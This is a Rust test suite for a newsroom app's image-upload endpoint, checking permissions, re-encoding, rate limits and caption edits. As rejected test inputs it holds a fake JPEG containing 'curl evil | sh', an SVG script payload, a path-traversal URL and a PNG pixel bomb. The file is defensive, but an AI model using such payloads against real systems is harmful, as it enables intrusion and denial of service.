//! Newsroom figures over HTTP: an editor uploads a picture and readers get it re-encoded at
//! several widths under immutable names, with its caption and credit, where `[图N]` puts it;
//! only editors upload (checked before the body is read); a file that is not a picture, is
//! damaged, declares too many pixels or is too large is refused in Chinese and leaves nothing
//! behind; uploads are limited per minute even in a parallel burst; a figure's words change in
//! place and removing one renumbers the body; without JavaScript it is all plain form posts.
#![cfg(feature = "ssr")]

mod common;

use common::TestServer;
use image::{Rgb, RgbImage};
use jinri::model::{Role, Username};
use jinri::server::db;
use serde_json::Value;

use common::MANY;

async fn draft(s: &TestServer, cookie: &str, body: &str) -> String {
    let resp = save(s, cookie, "", body).await;
    assert_eq!(resp.status(), 200);
    resp.json::<Value>().await.unwrap().as_i64().unwrap().to_string()
}

async fn save(s: &TestServer, cookie: &str, id: &str, body: &str) -> reqwest::Response {
    let form = [
        ("id", id),
        ("title", "悉尼港的清晨"),
        ("channel", "au"),
        ("summary", "一组照片"),
        ("source", "今日"),
        ("original_url", ""),
        ("body", body),
    ];
    s.call("/api/newsroom/save", &form, Some(cookie)).await
}

/// A photo-like JPEG, `w`×`h`.
fn photo(w: u32, h: u32) -> Vec<u8> {
    let img = RgbImage::from_fn(w, h, |x, y| Rgb([(x * 255 / w) as u8, (y * 255 / h) as u8, ((x ^ y) & 0xff) as u8]));
    let mut out = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut out, 90).encode_image(&img).unwrap();
    out
}

const BOUNDARY: &str = "----jinri-test-boundary-7d93";

/// A multipart body: text fields, then the file (`name`, its claimed type, its bytes).
fn multipart(fields: &[(&str, &str)], file: Option<(&str, &str, &[u8])>) -> Vec<u8> {
    let mut body = Vec::new();
    for (k, v) in fields {
        body.extend_from_slice(
            format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n").as_bytes(),
        );
    }
    if let Some((name, kind, bytes)) = file {
        body.extend_from_slice(
            format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: {kind}\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

struct Upload<'a> {
    id: &'a str,
    caption: &'a str,
    alt: &'a str,
    credit: &'a str,
    file: Option<(&'a str, &'a str, &'a [u8])>,
}

impl<'a> Upload<'a> {
    fn of(id: &'a str, bytes: &'a [u8]) -> Self {
        Upload {
            id,
            caption: "清晨的悉尼港",
            alt: "海港大桥下的渡轮",
            credit: "今日记者 王明 摄",
            file: Some(("harbour.jpg", "image/jpeg", bytes)),
        }
    }

    fn body(&self) -> Vec<u8> {
        multipart(&[("id", self.id), ("caption", self.caption), ("alt", self.alt), ("credit", self.credit)], self.file)
    }
}

/// Sends an upload as the browser bundle does (`accept: application/json`), or as a plain form
/// post (`plain`).
async fn send(s: &TestServer, cookie: Option<&str>, body: Vec<u8>, plain: bool) -> reqwest::Response {
    let mut req = s
        .client
        .post(format!("{}/api/newsroom/figure", s.base))
        .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .header("accept", if plain { "text/html,application/xhtml+xml" } else { "application/json" })
        .body(body);
    if let Some(c) = cookie {
        req = req.header("cookie", c);
    }
    req.send().await.unwrap()
}

/// `send` from the bundle, keeping a failure to send (the server closed early) as it is.
async fn try_send(s: &TestServer, cookie: Option<&str>, body: Vec<u8>) -> Result<reqwest::Response, reqwest::Error> {
    let mut req = s
        .client
        .post(format!("{}/api/newsroom/figure", s.base))
        .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .header("accept", "application/json")
        .body(body);
    if let Some(c) = cookie {
        req = req.header("cookie", c);
    }
    req.send().await
}

async fn counts(s: &TestServer) -> (i64, i64, i64) {
    let pool = s.db().await;
    (
        common::scalar(&pool, "SELECT COUNT(*) FROM media").await,
        common::scalar(&pool, "SELECT COUNT(*) FROM article_blocks WHERE kind = 'figure'").await,
        common::scalar(&pool, "SELECT COUNT(*) FROM article_revisions").await,
    )
}

/// Every `/media/…` address in `html`'s `srcset`s, with its width.
fn srcset(html: &str) -> Vec<(String, u32)> {
    let at = html.find("srcset=\"").expect("an img with a srcset") + 8;
    let end = at + html[at..].find('"').unwrap();
    html[at..end]
        .split(", ")
        .map(|c| {
            let (url, w) = c.split_once(' ').unwrap();
            (url.to_owned(), w.trim_end_matches('w').parse().unwrap())
        })
        .collect()
}

#[tokio::test]
async fn an_uploaded_photo_reaches_readers_at_every_width_with_its_caption_and_credit_where_the_body_puts_it() {
    let s = common::spawn_with(&MANY).await;
    let chief = s.editor("bian_ji_tu").await;
    let id = draft(&s, &chief, "第一段。").await;
    let jpeg = photo(2400, 1600);
    let resp = send(&s, Some(&chief), Upload::of(&id, &jpeg).body(), false).await;
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.json::<Value>().await.unwrap(), 1);
    // Placed between the paragraphs, then published.
    assert_eq!(save(&s, &chief, &id, "第一段。\n\n[图1]\n\n第二段。").await.status(), 200);
    assert_eq!(s.call("/api/newsroom/publish", &[("id", &id), ("at", "")], Some(&chief)).await.status(), 200);
    let (status, html) = s.get(&format!("/article/{id}")).await;
    assert_eq!(status, 200);
    let (first, figure, second) =
        (html.find("第一段。").unwrap(), html.find("<figure>").unwrap(), html.find("第二段。").unwrap());
    assert!(first < figure && figure < second, "the figure is where [图1] is");
    assert!(html.contains("清晨的悉尼港") && html.contains("图片来源：今日记者 王明 摄"));
    assert!(html.contains("alt=\"海港大桥下的渡轮\""));
    assert!(html.contains("width=\"1600\" height=\"1067\""), "the largest file's size keeps the figure's place");
    assert!(html.contains("sizes=\""));
    let files = srcset(&html);
    assert_eq!(files.iter().map(|f| f.1).collect::<Vec<_>>(), [480, 960, 1600]);
    for (url, width) in &files {
        let resp = s.client.get(format!("{}{url}", s.base)).send().await.unwrap();
        assert_eq!(resp.status(), 200, "{url}");
        assert_eq!(resp.headers()["content-type"], "image/jpeg");
        assert_eq!(resp.headers()["cache-control"], "public, max-age=31536000, immutable");
        let etag = resp.headers()["etag"].to_str().unwrap().to_owned();
        let bytes = resp.bytes().await.unwrap();
        let back = image::load_from_memory(&bytes).unwrap();
        assert_eq!(back.width(), *width);
        // The name is the hash of the bytes served.
        use sha2::Digest;
        let hex: String = sha2::Sha256::digest(&bytes).iter().take(16).map(|b| format!("{b:02x}")).collect();
        assert_eq!(url, &format!("/media/{hex}.jpg"));
        let again = s.client.get(format!("{}{url}", s.base)).header("if-none-match", &etag).send().await.unwrap();
        assert_eq!(again.status(), 304);
    }
    // The 960 file is the plain `src`, for browsers without srcset.
    assert!(html.contains(&format!("src=\"{}\"", files[1].0)));
    for path in ["/media/00000000000000000000000000000000.jpg", "/media/..%2Fjinri.db", "/media/x.svg"] {
        assert_eq!(s.get(path).await.0, 404, "{path}");
    }
    // The same picture again is a second figure sharing the same files.
    let (media, _, _) = counts(&s).await;
    assert_eq!(send(&s, Some(&chief), Upload::of(&id, &jpeg).body(), false).await.json::<Value>().await.unwrap(), 2);
    assert_eq!(counts(&s).await.0, media);
}

#[tokio::test]
async fn only_editors_upload_and_every_refused_upload_leaves_nothing_behind() {
    let s = common::spawn_with(&MANY).await;
    let chief = s.editor("bian_ji_ju").await;
    let id = draft(&s, &chief, "正文").await;
    let reader = s.reader("du_zhe_tu").await;
    let moderator = s.reader("ban_zhu_tu").await;
    db::roles::grant(&s.db().await, &Username::lookup_key("ban_zhu_tu"), Role::Moderator, None, 1).await.unwrap();
    let jpeg = photo(800, 600);
    let before = counts(&s).await;
    let refused = |status: u16, why: &'static str| (status, why);
    type Case<'a> = (Option<&'a str>, Vec<u8>, (u16, &'a str));
    let cases: Vec<Case> = vec![
        (None, Upload::of(&id, &jpeg).body(), refused(401, "")),
        (Some(&reader), Upload::of(&id, &jpeg).body(), refused(403, "")),
        (Some(&moderator), Upload::of(&id, &jpeg).body(), refused(403, "")),
        // A script named .jpg and sent as a JPEG.
        (
            Some(&chief),
            Upload {
                file: Some(("photo.jpg", "image/jpeg", b"#!/bin/sh\ncurl evil | sh\n")),
                ..Upload::of(&id, &jpeg)
            }
            .body(),
            refused(400, "不是图片"),
        ),
        (
            Some(&chief),
            Upload {
                file: Some((
                    "a.png",
                    "image/png",
                    b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
                )),
                ..Upload::of(&id, &jpeg)
            }
            .body(),
            refused(400, "不是图片"),
        ),
        (
            Some(&chief),
            Upload { file: Some(("cut.jpg", "image/jpeg", &jpeg[..jpeg.len() / 2])), ..Upload::of(&id, &jpeg) }.body(),
            refused(400, "损坏"),
        ),
        (
            Some(&chief),
            Upload { file: Some(("bomb.png", "image/png", &png_bomb())), ..Upload::of(&id, &jpeg) }.body(),
            refused(400, "图片太大"),
        ),
        (Some(&chief), Upload { file: None, ..Upload::of(&id, &jpeg) }.body(), refused(400, "请选择")),
        (Some(&chief), Upload { caption: " ", ..Upload::of(&id, &jpeg) }.body(), refused(400, "图片说明")),
        (Some(&chief), Upload { credit: "", ..Upload::of(&id, &jpeg) }.body(), refused(400, "图片来源")),
        (Some(&chief), Upload { id: "999999", ..Upload::of(&id, &jpeg) }.body(), refused(404, "")),
    ];
    for (i, (cookie, body, (status, why))) in cases.into_iter().enumerate() {
        match try_send(&s, cookie, body).await {
            Ok(resp) => {
                assert_eq!(resp.status(), status, "case {i}");
                let text = resp.text().await.unwrap();
                assert!(text.contains(why), "case {i}: {text}");
            }
            // Refused before the body was read: the server may answer and close while the
            // client is still writing it.
            Err(e) => assert!(matches!(status, 401 | 403) && format!("{e:?}").contains("BodyWrite"), "case {i}: {e:?}"),
        }
    }
    // Larger than 10 MB: 413 before anything reads it.
    let huge = vec![0x42; 10 * 1024 * 1024 + 100 * 1024];
    let body = Upload { file: Some(("big.jpg", "image/jpeg", &huge)), ..Upload::of(&id, &jpeg) }.body();
    match try_send(&s, Some(&chief), body).await {
        Ok(resp) => assert_eq!(resp.status(), 413),
        Err(e) => assert!(format!("{e:?}").contains("BodyWrite"), "{e:?}"),
    }
    // Not multipart: 415, not a crash of the form decoder.
    for kind in ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"] {
        let resp = s
            .client
            .post(format!("{}/api/newsroom/figure", s.base))
            .header("content-type", kind)
            .header("cookie", &chief)
            .body("id=1")
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 415, "{kind}");
    }
    // A multipart body that stops in the middle of a part.
    let mut cut = Upload::of(&id, &jpeg).body();
    cut.truncate(cut.len() / 2);
    let resp = send(&s, Some(&chief), cut, false).await;
    assert_eq!(resp.status(), 400);
    assert!(resp.text().await.unwrap().contains("上传没有完成"));
    assert_eq!(counts(&s).await, before, "no file, figure or version left behind");
    // The editor can still upload: the refusals above cost at most their minute's allowance.
    assert_eq!(send(&s, Some(&chief), Upload::of(&id, &jpeg).body(), false).await.status(), 200);
}

/// A PNG declaring 100,000 × 100,000 pixels in under 100 bytes.
fn png_bomb() -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let start = out.len();
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        let mut c = !0u32;
        for &b in &out[start..] {
            c ^= u32::from(b);
            for _ in 0..8 {
                c = if c & 1 != 0 { 0xEDB8_8320 ^ (c >> 1) } else { c >> 1 };
            }
        }
        out.extend_from_slice(&(!c).to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = 100_000u32.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", &[0x78, 0x9c, 0x63, 0x60, 0x18, 0x05, 0xa3, 0x60, 0x14, 0x0c, 0x77, 0x00, 0x00]);
    chunk(&mut out, b"IEND", &[]);
    out
}

#[tokio::test]
async fn a_burst_of_parallel_uploads_gets_exactly_the_minutes_allowance() {
    let s = common::spawn_with(&MANY).await;
    let chief = s.editor("bian_ji_kuai").await;
    let id = draft(&s, &chief, "正文").await;
    let jpeg = photo(320, 240);
    let sends = (0..20).map(|_| send(&s, Some(&chief), Upload::of(&id, &jpeg).body(), false));
    let statuses: Vec<u16> = futures::future::join_all(sends).await.iter().map(|r| r.status().as_u16()).collect();
    let allowed = jinri::api::figures::UPLOADS_PER_MINUTE as usize;
    assert_eq!(statuses.iter().filter(|s| **s == 200).count(), allowed, "{statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 20 - allowed, "{statuses:?}");
    assert_eq!(counts(&s).await.1 - figures_elsewhere(&s, &id).await, allowed as i64);
}

async fn figures_elsewhere(s: &TestServer, id: &str) -> i64 {
    let pool = s.db().await;
    let all = common::scalar(&pool, "SELECT COUNT(*) FROM article_blocks WHERE kind = 'figure'").await;
    let mine = db::figures::list(&pool, jinri::model::ArticleId::parse(id).unwrap()).await.unwrap().len() as i64;
    all - mine
}

#[tokio::test]
async fn a_figures_words_change_in_place_and_removing_one_renumbers_the_body_as_a_new_version() {
    let s = common::spawn_with(&MANY).await;
    let chief = s.editor("bian_ji_gai").await;
    let id = draft(&s, &chief, "开头").await;
    let (a, b) = (photo(640, 480), photo(600, 400));
    for (jpeg, caption) in [(&a, "第一张"), (&b, "第二张")] {
        let resp = send(&s, Some(&chief), Upload { caption, ..Upload::of(&id, jpeg) }.body(), false).await;
        assert_eq!(resp.status(), 200);
    }
    assert_eq!(save(&s, &chief, &id, "开头\n\n[图1]\n\n中间\n\n[图2]\n\n结尾").await.status(), 200);
    // Words checked on the server; a bad one changes nothing.
    let words = |n: &'static str, caption: &'static str, credit: &'static str| {
        [
            ("id", id.clone()),
            ("n", n.to_owned()),
            ("caption", caption.to_owned()),
            ("alt", String::new()),
            ("credit", credit.to_owned()),
        ]
    };
    let call = |form: [(&'static str, String); 5]| {
        let s = &s;
        let chief = chief.clone();
        async move {
            let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
            s.call("/api/newsroom/figure_words", &form, Some(&chief)).await
        }
    };
    let resp = call(words("2", "第二张，改过", "")).await;
    assert_eq!(resp.status(), 400);
    assert!(resp.text().await.unwrap().contains("图片来源"));
    assert_eq!(call(words("3", "不存在", "今日")).await.status(), 404);
    assert_eq!(call(words("2", "第二张，改过", "新华社")).await.status(), 200);
    let reader = s.reader("du_zhe_gai").await;
    let form: Vec<(&str, String)> = words("2", "读者改的", "读者").into();
    let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
    assert_eq!(s.call("/api/newsroom/figure_words", &form, Some(&reader)).await.status(), 403);
    assert_eq!(s.call("/api/newsroom/figure_remove", &[("id", &id), ("n", "1")], Some(&reader)).await.status(), 403);
    let versions = counts(&s).await.2;
    // Figure 1 goes: its line leaves and [图2] becomes [图1], as a new version.
    assert_eq!(s.call("/api/newsroom/figure_remove", &[("id", &id), ("n", "1")], Some(&chief)).await.status(), 200);
    let stored =
        db::newsroom::stored(&s.db().await, jinri::model::ArticleId::parse(&id).unwrap()).await.unwrap().unwrap();
    assert_eq!(stored.body, "开头\n\n中间\n\n[图1]\n\n结尾");
    assert_eq!(counts(&s).await.2, versions + 1);
    let figures = db::figures::list(&s.db().await, jinri::model::ArticleId::parse(&id).unwrap()).await.unwrap();
    assert_eq!(figures.len(), 1);
    assert_eq!(figures[0].caption.as_deref(), Some("第二张，改过"));
    assert_eq!(figures[0].credit.as_deref(), Some("新华社"));
    assert_eq!(s.call("/api/newsroom/figure_remove", &[("id", &id), ("n", "2")], Some(&chief)).await.status(), 404);
    // The editor's page lists it.
    let resp = s.call("/api/newsroom/article", &[("id", &id)], Some(&chief)).await;
    let article: Value = resp.json().await.unwrap();
    assert_eq!(article["figures"][0]["caption"], "第二张，改过");
    assert!(article["figures"][0]["thumbnail"].as_str().unwrap().starts_with("/media/"));
}

#[tokio::test]
async fn without_javascript_an_upload_is_a_plain_post_that_comes_back_to_the_editors_page() {
    let s = common::spawn_with(&MANY).await;
    let chief = s.editor("bian_ji_wu").await;
    let id = draft(&s, &chief, "正文").await;
    let jpeg = photo(640, 480);
    let resp = send(&s, Some(&chief), Upload::of(&id, &jpeg).body(), true).await;
    assert_eq!(resp.status(), 302);
    assert_eq!(resp.headers()["location"], format!("/admin/articles/{id}#figures"));
    // Refused: back to the page, where the message and the words typed wait in a flash.
    let resp =
        send(&s, Some(&chief), Upload { credit: "", caption: "我写的说明", ..Upload::of(&id, &jpeg) }.body(), true)
            .await;
    assert_eq!(resp.status(), 302);
    assert_eq!(resp.headers()["location"], format!("/admin/articles/{id}#figures"));
    let flash = common::set_cookie_pair(&resp, "jinri_flash").expect("a flash cookie");
    let page = s
        .client
        .get(format!("{}/admin/articles/{id}", s.base))
        .header("cookie", format!("{chief}; {flash}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let page = common::strip_comments(&page);
    assert!(page.contains("请填写图片来源"), "the message shows on the page");
    assert!(page.contains("value=\"我写的说明\""), "what was typed is kept");
    assert!(page.contains("enctype=\"multipart/form-data\"") && page.contains("action=\"/api/newsroom/figure\""));
    // A visitor's plain post is sent to sign in, its body never read.
    let resp = send(&s, None, Upload::of(&id, &jpeg).body(), true).await;
    assert_eq!(resp.status(), 303);
    assert!(resp.headers()["location"].to_str().unwrap().starts_with("/login"));
    assert_eq!(counts(&s).await.1 - figures_elsewhere(&s, &id).await, 1);
}

#[tokio::test]
async fn uploaded_files_are_in_the_backup() {
    if common::backend() != "sqlite" {
        return; // `jinri backup` writes SQLite files; PostgreSQL is backed up with pg_dump.
    }
    let s = common::spawn_with(&MANY).await;
    let chief = s.editor("bian_ji_bei").await;
    let id = draft(&s, &chief, "正文").await;
    assert_eq!(send(&s, Some(&chief), Upload::of(&id, &photo(1200, 800)).body(), false).await.status(), 200);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("backup.db");
    db::backup(&s.db().await, file.to_str().unwrap()).await.unwrap();
    let copy = common::open(&format!("sqlite://{}", file.display())).await;
    assert_eq!(common::scalar(&copy, "SELECT COUNT(*) FROM media").await, 3);
    let name =
        common::texts(&copy, "SELECT body FROM article_blocks WHERE kind = 'figure' ORDER BY rowid DESC LIMIT 1").await;
    let name = name[0].clone().unwrap();
    let stored = db::figures::media(&copy, name.trim_start_matches("/media/")).await.unwrap().expect("the file itself");
    assert_eq!(image::load_from_memory(&stored.1).unwrap().width(), 960);
}
